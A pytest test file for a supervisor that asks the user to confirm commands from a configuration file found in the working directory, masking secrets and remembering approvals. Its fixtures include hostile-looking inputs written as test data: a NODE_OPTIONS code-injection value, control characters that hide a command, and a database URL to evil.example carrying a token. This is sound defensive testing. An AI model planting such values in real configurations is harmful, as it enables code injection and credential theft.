"""The first launch of a configuration that was found in the working directory."""

import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from metamcp_supervisor.config import confirmation, confirmation_io
from metamcp_supervisor.config.config import Config, Server
from metamcp_supervisor.config.confirmation import NotConfirmed
from metamcp_supervisor.config.sources import trusted_state_dir
from metamcp_worker.ipc.spec import OAuth
from tests.supervisor.configs import config, loaded, server

TEXT = '[servers.git]\ncommand = ["uvx", "a b", ""]\nenv = { T = "${T}", API_KEY = "hidden" }\n'


def found(folder: Path, text: str = TEXT, token: str = "1") -> Config:
    environ = {"T": token, "METAMCP_STATE_DIR": str(folder / "state")}
    return loaded(folder, text, environ=environ)


def never(question: str) -> bool:
    raise AssertionError(f"asked: {question}")


def test_the_exact_commands_are_shown_and_confirmed_once(tmp_path: Path) -> None:
    asked: list[str] = []

    def ask(question: str) -> bool:
        asked.append(question)
        return True

    path = tmp_path / "metamcp.toml"
    assert (
        confirmation_io.ensure(found(tmp_path), path, tmp_path / "state", yes=False, ask=ask)
        is None
    )
    (question,) = asked
    assert question.splitlines() == [
        f"{path} was found in this directory and starts:",
        '  git: ["uvx","a b",""]',
        "    with API_KEY=***",
        "    with T=${T}",
    ]
    assert (
        confirmation_io.ensure(found(tmp_path), path, tmp_path / "state", yes=False, ask=never)
        is None
    )
    assert (
        confirmation_io.ensure(
            found(tmp_path, token="2"), path, tmp_path / "state", yes=False, ask=None
        )
        is None
    )


@pytest.mark.parametrize(
    ("table", "when"), [("notify", "when something waits"), ("hooks", "on recovered")]
)
def test_a_command_for_events_is_confirmed_like_those_of_servers(
    tmp_path: Path, table: str, when: str
) -> None:
    asked: list[str] = []

    def ask(question: str) -> bool:
        asked.append(question)
        return True

    path = tmp_path / "metamcp.toml"
    for word in ("a b", "c"):
        text = f'[{table}]\ncommand = ["sh", "{word}"]\n'
        text += 'on = "recovered"\n' if table == "hooks" else ""
        for _ in range(2):
            confirmation_io.ensure(
                found(tmp_path, text), path, tmp_path / "state", yes=False, ask=ask
            )
    assert [question.splitlines()[1:] for question in asked] == [
        [f'  {when}: ["sh","a b"]'],
        [f'  {when}: ["sh","c"]'],
    ]


def test_a_no_starts_nothing_and_is_not_remembered(tmp_path: Path) -> None:
    path = tmp_path / "metamcp.toml"
    for _ in range(2):
        with pytest.raises(NotConfirmed, match="nothing is started"):
            confirmation_io.ensure(
                found(tmp_path),
                path,
                tmp_path / "state",
                yes=False,
                ask=lambda question: not question,
            )
    assert not (tmp_path / "state").exists()


def test_without_a_terminal_only_yes_confirms(tmp_path: Path) -> None:
    path = tmp_path / "metamcp.toml"
    with pytest.raises(NotConfirmed, match="elsewhere\\), or name the file with --config"):
        confirmation_io.ensure(found(tmp_path), path, tmp_path / "state", yes=False, ask=None)
    confirmation_io.ensure(found(tmp_path), path, tmp_path / "state", yes=True, ask=None)
    confirmation_io.ensure(found(tmp_path), path, tmp_path / "state", yes=False, ask=None)


@pytest.mark.parametrize(
    "changed",
    [
        server("git", command=("uvx", "other")),
        server("other"),
        server("git", cwd=Path("/x")),
        server("git", env_written={"NODE_OPTIONS": "--require ./x.js"}),
        server("git", command=(), module="a:b"),
    ],
)
def test_everything_that_decides_which_code_runs_is_confirmed(changed: Server) -> None:
    assert confirmation.digest(config(changed), "f") != confirmation.digest(
        config(server("git")), "f"
    )


def test_what_runs_no_other_code_needs_no_new_answer() -> None:
    old = confirmation.digest(config(server("git")), "f")
    assert confirmation.digest(config(server("git", timeout_s=1.0, env={"T": "2"})), "f") == old
    assert confirmation.digest(config(server("git"), server("off", enabled=False)), "f") == old
    assert confirmation.digest(config(server("git")), "g") != old


def test_a_module_is_shown_with_its_directory() -> None:
    found = config(server("a", command=(), module="notes:server", cwd=Path("/w")))
    assert "a: the Python module notes:server in /w" in confirmation.question(found, "/x")


def test_a_command_cannot_hide_behind_control_characters() -> None:
    hostile = config(server("a", command=("sh", "\x1b[2K\r\u202e", "é")))
    question = confirmation.question(hostile, "/x\x1b")
    assert question.replace("\n", "").isprintable()
    assert '"é"' in question


def far(url: str = "https://x/", **settings: Any) -> Server:
    """A server that is reached by URL, as a file has it."""
    return server("a", command=(), url="https://x/", url_written=url, **settings)


def test_a_server_that_is_reached_starts_nothing_and_needs_no_answer(tmp_path: Path) -> None:
    text = "[servers.a]\nurl = 'https://x/?token=secret'\n"
    path = tmp_path / "metamcp.toml"
    assert (
        confirmation_io.ensure(found(tmp_path, text), path, tmp_path, yes=False, ask=None) is None
    )
    assert not (tmp_path / confirmation_io.FILE).exists()
    both = found(tmp_path, TEXT + text)
    assert confirmation.digest(both, "f") == confirmation.digest(found(tmp_path), "f")
    lines = confirmation.question(both, "f").splitlines()
    assert lines[:2] == [
        "f was found in this directory and starts or reaches:", "  a: https://x/?token=***",
    ]  # fmt: skip
    confirmation_io.check(found(tmp_path, text), path, tmp_path, running=config())


@pytest.mark.parametrize(
    "sends",
    [
        far("https://x/${TOKEN}"),
        far(headers_written={"Authorization": "Bearer ${TOKEN}"}),
        far(oauth_written=OAuth(client_id="me", client_secret="${TOKEN}")),
        server("a", command=(), transport="kafka", options_written={"topic": "t"}),
    ],
)
def test_what_gives_secrets_away_or_runs_a_package_is_confirmed(sends: Server) -> None:
    assert confirmation.parts(config(sends))
    assert confirmation.digest(config(sends), "f") != confirmation.digest(config(far()), "f")
    question = confirmation.question(config(sends), "f")
    assert "${TOKEN}" in question or "the transport kafka" in question
    assert not confirmation.parts(config(replace(sends, enabled=False)))


def test_a_secret_that_is_written_into_the_file_is_not_shown() -> None:
    written = {"Authorization": "canary", "X-Api-Key": "canary", "X-Team": "blue"}
    question = confirmation.question(
        config(far("https://u:canary@x/", headers_written=written)), "f"
    )
    assert "canary" not in question
    assert "    with X-Team=blue" in question.splitlines()


@pytest.mark.parametrize(
    ("table", "line"),
    [
        ('[gateway]\nstore = "{}"\ncluster_secret = "${{env:LONG}}"', "store"),
        ('[engine]\ndatabase = "{}"', "database"),
    ],
)
def test_a_database_that_gets_a_password_is_confirmed_and_shown_without_one(
    tmp_path: Path, table: str, line: str
) -> None:
    environ = {"TOKEN": "canary-of-the-user", "LONG": "x" * 32}
    url = "postgresql://u:${env:TOKEN}@evil.example/db"
    found = loaded(tmp_path, table.format(url), environ=environ)
    assert confirmation.parts(found)
    question = confirmation.question(found, "f")
    assert f"  it sends: {line}=postgresql://u:${{env:TOKEN}}@evil.example/db" in question
    assert "canary" not in question


def test_a_database_is_shown_even_if_its_password_is_not_in_the_file(tmp_path: Path) -> None:
    found = loaded(tmp_path, '[engine]\ndatabase = "postgresql://h/db"\n')
    assert "  it sends: database=postgresql://h/db" in confirmation.question(found, "f")
    secret = f'cluster_secret = "{"x" * 32}"'
    found = loaded(tmp_path, f'[gateway]\nstore = "postgresql://u:canary@h/db"\n{secret}')
    assert "  it sends: store=postgresql://***@h/db" in confirmation.question(found, "f")


@pytest.mark.parametrize(
    "content", [b"", b"[]", b'{"confirmed": 1}', b"\xff", b'{"confirmed": {"f": 1}}']
)
def test_a_broken_memory_counts_as_none(tmp_path: Path, content: bytes) -> None:
    (tmp_path / confirmation_io.FILE).write_bytes(content)
    assert confirmation_io.read(tmp_path) == {}


def test_the_memory_is_private_bounded_and_written_as_a_whole(tmp_path: Path) -> None:
    state = tmp_path / "a/b"
    for number in range(3):
        confirmation_io.remember(state, f"f{number}", ["digest"])
    assert list(confirmation_io.read(state)) == ["f0", "f1", "f2"]
    assert os.listdir(state) == [confirmation_io.FILE]
    assert stat.S_IMODE((state / confirmation_io.FILE).stat().st_mode) == 0o600
    assert stat.S_IMODE(state.stat().st_mode) == 0o700


def test_a_state_directory_that_cannot_be_written_gives_a_warning(tmp_path: Path) -> None:
    (tmp_path / "state").write_text("not a directory")
    got = confirmation_io.ensure(
        found(tmp_path), tmp_path / "metamcp.toml", tmp_path / "state", yes=True, ask=None
    )
    assert got is not None
    assert "the commands will have to be confirmed again" in got


def test_a_reload_passes_with_what_runs_or_was_confirmed_and_nothing_else(tmp_path: Path) -> None:
    path, state = tmp_path / "metamcp.toml", tmp_path / "state"
    running = found(tmp_path)
    confirmation_io.check(found(tmp_path, TEXT + 'timeout = "9s"\n'), path, state, running=running)
    other = found(tmp_path, TEXT.replace("uvx", "curl"))
    with pytest.raises(NotConfirmed, match="nothing is reloaded; 'metamcp confirm'") as refused:
        confirmation_io.check(other, path, state, running=running)
    assert '"curl"' in refused.value.question
    confirmation_io.check(other, path, state, running=running, yes=True)
    confirmation_io.check(other, path, state, running=running)


MORE = TEXT + '[servers.more]\ncommand = "more"\n'


def test_what_only_stops_something_needs_no_answer_and_what_is_new_is_shown_alone(
    tmp_path: Path,
) -> None:
    path, state = tmp_path / "metamcp.toml", tmp_path / "state"
    both, one = found(tmp_path, MORE), found(tmp_path)
    confirmation_io.ensure(both, path, state, yes=True, ask=None)
    confirmation_io.check(one, path, state, running=both)
    confirmation_io.ensure(one, path, state, yes=False, ask=never)
    with pytest.raises(NotConfirmed) as refused:  # it was taken out since
        confirmation_io.check(both, path, state, running=one)
    assert refused.value.question.splitlines() == [
        f"{path} was found in this directory and starts, beside what is confirmed:",
        '  more: ["more"]',
    ]


def test_a_confirmation_of_an_earlier_version_counts(tmp_path: Path) -> None:
    path, both = tmp_path / "metamcp.toml", found(tmp_path, MORE)
    digest = confirmation.digest(both, str(path))
    kept = {"v": 1, "confirmed": {str(path): digest}}
    (tmp_path / confirmation_io.FILE).write_text(json.dumps(kept))
    confirmation_io.ensure(both, path, tmp_path, yes=False, ask=never)
    assert digest not in confirmation_io.read(tmp_path)[str(path)]
    confirmation_io.ensure(found(tmp_path), path, tmp_path, yes=False, ask=never)


def test_the_oldest_confirmations_go_when_there_are_too_many(tmp_path: Path) -> None:
    for number in range(9):
        confirmation_io.remember(tmp_path, f"f{number}", ["d" * 300_000])
    assert list(confirmation_io.read(tmp_path)) == ["f6", "f7", "f8"]


def test_a_file_that_was_found_does_not_choose_where_its_confirmation_is_looked_up(
    tmp_path: Path,
) -> None:
    text = TEXT + '[gateway]\nstate_dir = "./mine"\n'
    hostile = loaded(tmp_path, text, environ={"T": "1"})
    assert hostile.gateway.state_dir == tmp_path / "mine"
    home = tmp_path / "home"
    own = trusted_state_dir(hostile, environ={}, home=home, flags={})
    assert own == home / ".local/state/metamcp"
    service = {"STATE_DIRECTORY": "/var/lib/metamcp"}
    own = trusted_state_dir(hostile, environ=service, home=home, flags={})
    assert own == Path("/var/lib/metamcp")
    named = loaded(tmp_path, text, environ={"T": "1"}, flags={"state_dir": "/s"})
    own = trusted_state_dir(named, environ={}, home=home, flags={"state_dir": "/s"})
    assert own == Path("/s")
